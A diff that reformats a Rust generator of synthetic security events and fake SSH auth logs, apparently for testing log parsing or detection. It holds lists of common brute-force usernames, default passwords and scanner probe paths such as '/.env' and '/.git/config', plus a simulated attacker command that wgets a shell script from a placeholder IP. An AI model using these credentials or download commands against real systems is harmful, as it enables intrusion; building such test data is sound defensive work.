@@ -31,9 +31,17 @@ impl Random {
     }
 }
 
-const USERS: &[&str] = &["root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi"];
-const PASSWORDS: &[&str] = &["123456", "admin", "password", "root", "1234", "qwerty", "toor", "ubnt"];
-const PATHS: &[&str] = &["GET /", "GET /.env", "GET /wp-login.php", "POST /boaform/admin/formLogin", "GET /.git/config"];
+const USERS: &[&str] =
+    &["root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi"];
+const PASSWORDS: &[&str] =
+    &["123456", "admin", "password", "root", "1234", "qwerty", "toor", "ubnt"];
+const PATHS: &[&str] = &[
+    "GET /",
+    "GET /.env",
+    "GET /wp-login.php",
+    "POST /boaform/admin/formLogin",
+    "GET /.git/config",
+];
 
 /// An endless stream of events, one every `step_ms` from `from` on.
 pub(crate) struct Events {
@@ -103,7 +111,8 @@ impl Iterator for Events {
                 Some(event.with("status", 404i64))
             }
             EventKind::CommandEntered => {
-                event.request = Some(format!("wget http://192.0.2.66/{}.sh", random.skewed(5_000)).into());
+                event.request =
+                    Some(format!("wget http://192.0.2.66/{}.sh", random.skewed(5_000)).into());
                 Some(event)
             }
             _ => Some(event),
@@ -123,14 +132,34 @@ pub(crate) fn auth_log(lines: usize) -> Vec<u8> {
         let user = USERS.get(random.skewed(9) as usize).copied().unwrap_or("x");
         let _ = write!(log, "Nov 19 {h:02}:{m:02}:{s:02} host ");
         let _ = match random.next() % 20 {
-            0..6 => writeln!(log, "sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"),
-            6..8 => writeln!(log, "sshd[{pid}]: Failed password for invalid user {user}{port} from {ip} port {port} ssh2"),
+            0..6 => {
+                writeln!(log, "sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2")
+            }
+            6..8 => writeln!(
+                log,
+                "sshd[{pid}]: Failed password for invalid user {user}{port} from {ip} port {port} ssh2"
+            ),
             8..9 => writeln!(log, "sshd[{pid}]: Invalid user {user}{port} from {ip} port {port}"),
-            9..12 => writeln!(log, "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"),
-            12..14 => writeln!(log, "sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
-            14 => writeln!(log, "sshd[{pid}]: Connection closed by authenticating user {user} {ip} port {port} [preauth]"),
-            15..18 => writeln!(log, "CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
-            18 => writeln!(log, "sudo: deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx"),
+            9..12 => writeln!(
+                log,
+                "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"
+            ),
+            12..14 => writeln!(
+                log,
+                "sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"
+            ),
+            14 => writeln!(
+                log,
+                "sshd[{pid}]: Connection closed by authenticating user {user} {ip} port {port} [preauth]"
+            ),
+            15..18 => writeln!(
+                log,
+                "CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
+            ),
+            18 => writeln!(
+                log,
+                "sudo: deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx"
+            ),
             _ => writeln!(log, "systemd-logind[612]: New session {port} of user deploy."),
         };
     }
